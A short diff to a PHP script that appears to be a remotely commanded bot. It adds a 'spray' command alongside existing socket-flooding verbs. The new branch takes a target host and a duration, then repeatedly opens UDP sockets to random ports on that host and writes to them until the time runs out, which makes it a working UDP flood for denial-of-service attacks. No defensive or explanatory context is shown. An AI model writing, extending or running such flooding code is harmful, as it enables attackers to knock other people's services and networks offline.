@@ -40,6 +40,12 @@ while (true) {
             for ($i = 0; $i < 100; $i++) @fwrite($socket, "x");
         }
         $answer = "sent";
+    } elseif ($verb == "spray") {
+        [$to, $seconds] = explode("/", $where);
+        for ($end = microtime(true) + $seconds; microtime(true) < $end; ) {
+            for ($i = 0; $i < 10; $i++) @fwrite(stream_socket_client("udp://$to:" . rand(1024, 60000)), "x");
+        }
+        $answer = "sent";
     } elseif ($verb == "connects") {
         [$to, $seconds] = explode("/", $where);
         $flags = STREAM_CLIENT_CONNECT | STREAM_CLIENT_ASYNC_CONNECT;
